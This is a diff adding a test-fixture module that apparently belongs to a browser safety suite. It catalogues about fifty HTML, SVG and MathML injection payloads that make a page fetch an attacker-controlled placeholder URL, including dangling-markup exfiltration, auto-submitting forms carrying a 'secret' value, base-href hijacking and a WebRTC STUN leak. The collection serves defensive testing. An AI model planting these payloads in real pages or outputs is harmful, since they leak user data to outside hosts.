@@ -1,0 +1,57 @@
+"""Elements that fetch something as soon as they exist."""
+
+# ruff: noqa: E501 - a shape stays in one piece
+
+from __future__ import annotations
+
+from tests.browser.safety.payloads.marks import HOME, HOST, LURE
+
+SHAPES = {
+    "img-src": f"<img src={LURE}?a>",
+    "img-srcset": f"<img srcset='{LURE}?b 1x, {LURE}?c 2x' sizes=100vw>",
+    "img-lazy": f"<img loading=lazy src={LURE} width=9 height=9 lowsrc={LURE} dynsrc={LURE}>",
+    "img-in-no-document": f"<img src=x><img src='{HOME}' crossorigin=use-credentials referrerpolicy=unsafe-url>",
+    "picture-source": f"<picture><source srcset={LURE} media=all><img></picture>",
+    "input-image": f"<input type=image src={LURE}>",
+    "table-background": f"<table background={LURE}><tr background={LURE}><td background={LURE}>x</table>",
+    "body-background": f"<body background={LURE}>",
+    "audio": f"<audio autoplay src={LURE}></audio><bgsound src={LURE}>",
+    "video-poster": f"<video poster={LURE} autoplay muted><source src={LURE}></video>",
+    "track": f"<video><track default kind=captions src={LURE}></video>",
+    "iframe": f"<iframe src={LURE}></iframe>",
+    "iframe-srcdoc-img": f"<iframe srcdoc='<img src={LURE}>'></iframe>",
+    "iframe-lazy-sandbox": f"<iframe loading=eager sandbox allow=* src={LURE}></iframe>",
+    "object": f"<object data={LURE} type=image/png codebase={LURE} classid={LURE}></object>",
+    "object-param-movie": f"<object type=application/x-shockwave-flash><param name=movie value={LURE}></object>",
+    "embed": f"<embed src={LURE} pluginspage={LURE}>",
+    "applet-archive": f"<applet code=x codebase={LURE} archive={LURE}></applet>",
+    "frame": f"<frameset><frame src={LURE}></frameset>",
+    "script-src": f"<script src={LURE}></script><script async defer src={HOME}></script>",
+    "svg-image": f"<svg><image href={LURE} xlink:href={LURE}></svg>",
+    "svg-use": f"<svg><use href={LURE}#x /><use xlink:href={LURE}#y /></svg>",
+    "svg-feimage": f"<svg><filter id=f><feImage href={LURE} /></filter><rect filter=url(#f) width=9 height=9 /></svg>",
+    "svg-paint-url": f"<svg><rect fill='url({LURE}#g)' mask='url({LURE}#m)' width=9 height=9 /></svg>",
+    "svg-mpath-pattern": f"<svg><pattern href={LURE}#p /><animateMotion><mpath href={LURE}#q /></animateMotion></svg>",
+    "svg-font-face-uri": f"<svg><font-face-src><font-face-uri xlink:href={LURE} /></font-face-src></svg>",
+    "svg-cursor-tref": f"<svg><cursor xlink:href={LURE} /><text><tref xlink:href={LURE} /></text></svg>",
+    "math-image": f"<math><mglyph src={LURE}></mglyph><mi mathbackground='url({LURE})'>x</mi></math>",
+    "anchor-ping": f"<a ping={LURE} href=https://example.com>x</a><area ping={LURE} href=x>",
+    "image-map": f"<img usemap=#m src=/web/icon.svg><map name=m><area href={LURE} coords=0,0,9,9></map>",
+    "form-autosubmit": f"<form action={LURE} id=g><input name=q value=secret></form><input form=g autofocus type=submit>",
+    "form-dangling": f"<form action={LURE}><textarea name=rest>",
+    "img-dangling": f"<img src='{LURE}?",
+    "button-formaction": f"<button form=composer formaction={LURE} name=q value=secret>x</button>",
+    "meta-refresh": f"<meta http-equiv=refresh content='0;url={LURE}'>",
+    "meta-referrer": f"<meta name=referrer content=unsafe-url><meta http-equiv=x-dns-prefetch-control content=on><a href={HOME}>x</a>",
+    "base-href": f"<base href={LURE}/><img src=relative.png><a href=relative>x</a>",
+    "html-manifest": f"<html manifest={LURE}><head profile={LURE}>",
+    "blockquote-cite": f"<blockquote cite={LURE}>x</blockquote><q cite={LURE}>y</q><del cite={LURE}>z</del><img longdesc={LURE}>",
+    "attributionsrc": f"<a attributionsrc={LURE} href={LURE}>x</a><script attributionsrc={LURE}></script>",
+    "model-and-portal": f"<model src={LURE}></model><portal src={LURE}></portal><fencedframe src={LURE}></fencedframe>",
+    "webview": f"<webview src={LURE}></webview><browser src={LURE}></browser><layer src={LURE}></layer><ilayer src={LURE}>",
+    "template-shadow-img": f"<div><template shadowrootmode=open><img src={LURE}><style>@import '{LURE}';</style></template></div>",
+    "noscript-img": f"<noscript><img src={LURE}></noscript>",
+    "prefetch-by-speculation": f'<script type=speculationrules>{{"prerender":[{{"urls":["{LURE}"]}}]}}</script>',
+    "custom-protocol": f"<a href='web+x:{LURE}'>x</a><iframe src='ms-word:ofe|u|{LURE}'></iframe>",
+    "webrtc-and-friends": f"<script>new RTCPeerConnection({{iceServers:[{{urls:'stun:{HOST}'}}]}}).createDataChannel('')</script>",
+}
